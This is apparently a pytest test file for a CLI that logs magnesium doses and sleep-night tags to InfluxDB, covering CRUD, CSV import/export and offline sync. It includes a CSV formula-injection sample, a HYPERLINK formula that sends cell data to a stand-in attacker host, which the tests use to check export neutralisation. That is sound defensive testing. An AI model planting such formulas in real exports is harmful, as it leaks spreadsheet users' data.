"""The `magsleep dose` and `magsleep night` commands against the real InfluxDB."""

from __future__ import annotations

import csv
import json
import re
import urllib.parse
import urllib.request
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from typer.testing import CliRunner

from collector.cli import app
from collector.doses.csvio import neutralise, unneutralise
from collector.storage import local_influx
from tests.cli.console import Console, flat
from tests.doses.cases import Case, cases

runner = CliRunner()


def cli(cfg: Path, *args: str) -> tuple[int, str]:
    res = runner.invoke(app, ["--config", str(cfg), *args], env={"COLUMNS": "200"})
    return res.exit_code, " ".join(res.output.split())


def dose_ids(cfg: Path) -> list[str]:
    code, out = cli(cfg, "dose", "export")
    assert code == 0, out
    return re.findall(r"([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}),", out)


@pytest.mark.parametrize("case", cases(), ids=lambda c: c.name)
def test_every_rule_through_cli(config_file: Path, case: Case) -> None:
    code, out = cli(config_file, "dose", "add", *case.cli)
    assert code == 2, out
    assert f"{case.field}: " in out
    assert " ".join(case.phrase.split()) in out
    assert dose_ids(config_file) == []


def test_add_list_edit_delete_reach_influx(
    config_file: Path, influx_server: Any, influx_db: str
) -> None:
    code, out = cli(config_file, "dose", "add", "300", "--form", "glycinate", "--at", "21:30",
                    "-p", "alice", "--note", "before bed")
    assert code == 0, out
    assert "logged 300 mg glycinate (42.3 mg elemental) for alice" in out
    (dose_id,) = dose_ids(config_file)
    rows = influx_server.rows("SELECT * FROM supplement_dose", influx_db)
    assert [(r["dose_id"], r["source"], r["note"]) for r in rows] == [(dose_id, "cli", "before bed")]

    code, out = cli(config_file, "dose", "list", "--person", "alice")
    assert code == 0 and dose_id[:8] in out and "glycinate" in out and "42.3" in out

    code, out = cli(config_file, "dose", "edit", dose_id[:8], "--amount", "600", "--form", "citrate")
    assert code == 0, out
    assert "changed 600 mg citrate (97 mg elemental)" in out
    rows = influx_server.rows("SELECT * FROM supplement_dose", influx_db)
    assert [(r["form"], r["amount_mg"]) for r in rows] == [("citrate", 600.0)]

    code, out = cli(config_file, "dose", "delete", dose_id)
    assert code == 0 and "deleted" in out
    assert influx_server.rows("SELECT * FROM supplement_dose", influx_db) == []
    assert dose_ids(config_file) == []
    code, out = cli(config_file, "dose", "delete", dose_id)
    assert code == 2 and "no dose with id" in out


def test_at_full_date_and_time_zone(config_file: Path) -> None:
    at = (datetime.now(UTC) - timedelta(days=2)).astimezone().strftime("%Y-%m-%d") + " 22:10"
    code, out = cli(config_file, "dose", "add", "200", "-p", "bob", "--at", at)
    assert code == 0, out
    code, out = cli(config_file, "dose", "export")
    expected = datetime.fromisoformat(at).replace(tzinfo=ZoneInfo("America/New_York"))
    assert expected.isoformat() in out  # read in bob's zone
    code, out = cli(config_file, "dose", "add", "200", "-p", "bob", "--at", "25:99")
    assert code == 2 and "hours 0-23" in out
    code, out = cli(config_file, "dose", "add", "200", "-p", "bob", "--at", "yesterday-ish")
    assert code == 2 and "use HH:MM" in out


def test_daily_warning_in_cli(config_file: Path) -> None:
    code, out = cli(config_file, "dose", "add", "700", "--form", "oxide", "-p", "alice")
    assert code == 0, out
    assert "warning: alice's supplemental elemental magnesium" in out
    assert "above the daily level of 350 mg" in out


def test_import_all_or_nothing_then_skip_bad(config_file: Path, tmp_path: Path,
                                            influx_server: Any, influx_db: str) -> None:
    csv = tmp_path / "doses.csv"
    d = [(datetime.now(UTC) - timedelta(days=k)).date().isoformat() for k in (5, 4, 3)]
    csv.write_text(
        "person,form,amount_mg,taken_at,note\n"
        f"alice,glycinate,300,{d[0]} 22:10,ok\n"
        f"alice,unobtainium,300,{d[0]} 22:10,bad form\n"
        f"alice,citrate,0,{d[1]} 22:10,bad amount\n"
        f"carol,citrate,300,{d[2]} 22:10,bad person\n"
        f"bob,citrate,300,{d[2]} 22:10,ok\n",
        encoding="utf-8",
    )
    code, out = cli(config_file, "dose", "import", str(csv))
    assert code == 2
    assert "line 3: form: unknown form 'unobtainium'" in out
    assert "line 4: amount_mg:" in out
    assert "line 5: person: unknown person 'carol'" in out
    assert "3 bad row(s) (lines 3, 4, 5); nothing imported" in out
    assert dose_ids(config_file) == []

    code, out = cli(config_file, "dose", "import", str(csv), "--skip-bad")
    assert code == 0, out
    assert "imported 2 dose(s); 0 already there; 3 bad row(s) skipped" in out
    rows = influx_server.rows("SELECT * FROM supplement_dose", influx_db)
    assert sorted((r["person"], r["source"]) for r in rows) == [("alice", "import"), ("bob", "import")]


def test_export_reimports_as_is(config_file: Path, tmp_path: Path) -> None:
    for args in (["300", "-p", "alice"], ["150", "--form", "other", "--elemental", "40", "-p", "bob"]):
        assert cli(config_file, "dose", "add", *args)[0] == 0
    out_file = tmp_path / "export.csv"
    code, _ = cli(config_file, "dose", "export", "-o", str(out_file))
    assert code == 0
    code, out = cli(config_file, "dose", "import", str(out_file))
    assert code == 0, out
    assert "imported 0 dose(s); 2 already there" in out
    text = out_file.read_text()
    assert ",other,150,40," in text


def test_import_reports_repeated_ids(config_file: Path, tmp_path: Path) -> None:
    csv = tmp_path / "dup.csv"
    uid = "3f2b8c1e-4d5a-4b6c-9d7e-0123456789ab"
    csv.write_text(f"id,person,amount_mg\n{uid},alice,300\n{uid},alice,400\n", encoding="utf-8")
    code, out = cli(config_file, "dose", "import", str(csv))
    assert code == 2 and "line 3: id: repeats the id of line 2" in out
    bad = tmp_path / "bad.csv"
    bad.write_text("person,mg\nalice,300\n", encoding="utf-8")
    code, out = cli(config_file, "dose", "import", str(bad))
    assert code == 2 and "unknown columns mg" in out and "missing columns amount_mg" in out


def test_night_tags(config_file: Path, influx_server: Any, influx_db: str) -> None:
    code, out = cli(config_file, "night", "tag", "2026-11-20", "--no-dose", "--alcohol", "-p", "alice")
    assert code == 0, out
    assert "2026-11-20 no_dose: tagged" in out and "2026-11-20 alcohol: tagged" in out
    rows = influx_server.rows("SELECT * FROM night_tag", influx_db)
    assert sorted((r["tag"], r["night"], r["value"]) for r in rows) == [
        ("alcohol", "2026-11-20", True), ("no_dose", "2026-11-20", True)]
    noon = datetime(2026, 11, 20, 12, tzinfo=UTC)
    assert {r["time"] for r in rows} == {int(noon.timestamp()) * 10**9}
    code, out = cli(config_file, "night", "tag", "2026-11-20", "--alcohol", "--remove", "-p", "alice")
    assert code == 0 and "alcohol: removed" in out
    rows = influx_server.rows("SELECT * FROM night_tag", influx_db)
    assert [r["tag"] for r in rows] == ["no_dose"]
    code, out = cli(config_file, "night", "tags")
    assert code == 0 and "no_dose" in out and "alcohol" not in out
    code, out = cli(config_file, "night", "tag", "2026-11-20", "-p", "alice")
    assert code == 2 and "give at least one tag" in out
    code, out = cli(config_file, "night", "tag", "20.11.2026", "--training", "-p", "alice")
    assert code == 2 and "YYYY-MM-DD" in out
    code, out = cli(config_file, "night", "tag", "2099-01-01", "--illness", "-p", "alice")
    assert code == 2 and "is in the future" in out


def test_influx_down_cli_keeps_dose_and_sync_delivers(
    config_file: Path, influx_server: Any, influx_db: str
) -> None:
    influx_server.stop()
    try:
        code, out = cli(config_file, "dose", "add", "300", "-p", "alice")
        assert code == 0, out
        assert "safe in the dose journal" in out
        (dose_id,) = dose_ids(config_file)
        code, out = cli(config_file, "night", "tag", "yesterday", "--training", "-p", "alice")
        assert code == 0, out
    finally:
        influx_server.start()
    code, out = cli(config_file, "dose", "sync")
    assert code == 0, out
    rows = influx_server.rows("SELECT * FROM supplement_dose", influx_db)
    assert [r["dose_id"] for r in rows] == [dose_id]
    assert [r["tag"] for r in influx_server.rows("SELECT * FROM night_tag", influx_db)] == ["training"]


def test_sync_after_database_reset(config_file: Path, influx_server: Any, influx_db: str) -> None:
    assert cli(config_file, "dose", "add", "300", "-p", "alice")[0] == 0
    assert cli(config_file, "night", "tag", "yesterday", "--no-dose", "-p", "bob")[0] == 0
    assert cli(config_file, "night", "lights-out", "--at", "22:30", "-p", "bob")[0] == 0
    influx_server.drop_database(influx_db)
    influx_server.create_database(influx_db)
    code, out = cli(config_file, "dose", "sync")
    assert code == 0 and "sent 3 dose(s), night tag(s) and lights out/on" in out
    assert len(influx_server.rows("SELECT * FROM supplement_dose", influx_db)) == 1
    assert sorted(r["tag"] for r in influx_server.rows("SELECT * FROM night_tag", influx_db)) == [
        "lights_out", "no_dose"]


@pytest.mark.parametrize("where", ["embedded-not-running", "url-nothing-listening"])
def test_dose_add_is_never_refused_while_influx_is_unreachable(tmp_path: Path, where: str) -> None:
    """Issue 13 #4: the installed `magsleep dose add` keeps the dose in the journal when InfluxDB
    cannot be reached (also the embedded one not started), and a later command delivers it."""
    home = tmp_path / "home"
    home.mkdir()
    root = home / "state" / "influxdb"
    port = local_influx.free_port()
    influx: dict[str, Any] = ({"embedded": True} if where == "embedded-not-running"
                              else {"embedded": False, "url": f"http://127.0.0.1:{port}"})
    con = Console(home, {"persons": [{"name": "alice", "timezone": "Europe/Berlin"}],
                         "influx": influx})
    r = con.run("dose", "add", "300", "--note", "while down")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "logged 300 mg" in flat(r.stdout)
    assert "safe in the dose journal" in flat(r.stderr)
    local_influx.start(root, port=port)  # what `magsleep influx start` does
    try:
        r = con.run("dose", "add", "200")
        assert r.returncode == 0, r.stdout + r.stderr
        assert "safe in the dose journal" not in flat(r.stderr)
        q = urllib.parse.urlencode({"q": "SELECT amount_mg, note FROM supplement_dose",
                                    "db": "magsleep"})
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/query?{q}", timeout=30) as resp:
            values = json.loads(resp.read())["results"][0]["series"][0]["values"]
        assert sorted((v[1], v[2]) for v in values) == [(200.0, ""), (300.0, "while down")]
    finally:
        local_influx.stop(root)


NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3 mg less", "@SUM(1)",
         "'tis the season", "plain"]


def test_export_neutralises_spreadsheet_formulas_and_reimports_as_is(
    tmp_path: Path, influx_server: Any, influx_db: str
) -> None:
    """Issue 20 #11: no exported cell starts a formula; the export still re-imports as is."""
    home = tmp_path / "home"
    home.mkdir()
    con = Console(home, {"persons": [{"name": "alice", "timezone": "Europe/Berlin"}],
                         "influx": {"embedded": False, "url": influx_server.url,
                                    "database": influx_db}})
    day = (datetime.now(UTC) - timedelta(days=2)).date().isoformat()
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["person", "amount_mg", "taken_at", "note"])
        for k, note in enumerate(NOTES):
            w.writerow(["alice", 100 + k, f"{day} 21:{k:02d}", note])
    r = con.run("dose", "import", str(src))
    assert r.returncode == 0, r.stdout + r.stderr
    out = tmp_path / "out.csv"
    r = con.run("dose", "export", "-o", str(out))
    assert r.returncode == 0, r.stdout + r.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with out.open(encoding="utf-8", newline="") as fh:
        notes = sorted(row["note"] for row in csv.DictReader(fh))
    assert notes == sorted(["'" + n if n[:1] in "=+-@" else n for n in NOTES])
    r = con.run("dose", "import", str(out))
    assert r.returncode == 0, r.stdout + r.stderr
    assert f"imported 0 dose(s); {len(NOTES)} already there" in flat(r.stdout)
    rows = influx_server.rows("SELECT note FROM supplement_dose", influx_db)
    assert sorted(r["note"] for r in rows) == sorted(NOTES)  # stored as given


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("'=x", "''=x"), ("''x", "'''x"), ("'x", "'x"), ("x=1", "x=1"), ("", ""),
])
def test_neutralise_round_trips(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert unneutralise(cell) == text


def test_import_of_a_file_that_is_not_utf8_says_what_to_do(config_file: Path, tmp_path: Path) -> None:
    csv = tmp_path / "latin1.csv"
    body = "person,form,amount_mg,taken_at,note\nalice,citrate,300,2026-11-20 22:10,caf\xe9\n".encode("latin-1")
    csv.write_bytes(body)
    code, out = cli(config_file, "dose", "import", str(csv))
    assert code == 2 and "Traceback" not in out
    flat = " ".join(out.split())
    assert "is not UTF-8 text" in flat and "CSV UTF-8" in flat
    assert csv.read_bytes() == body
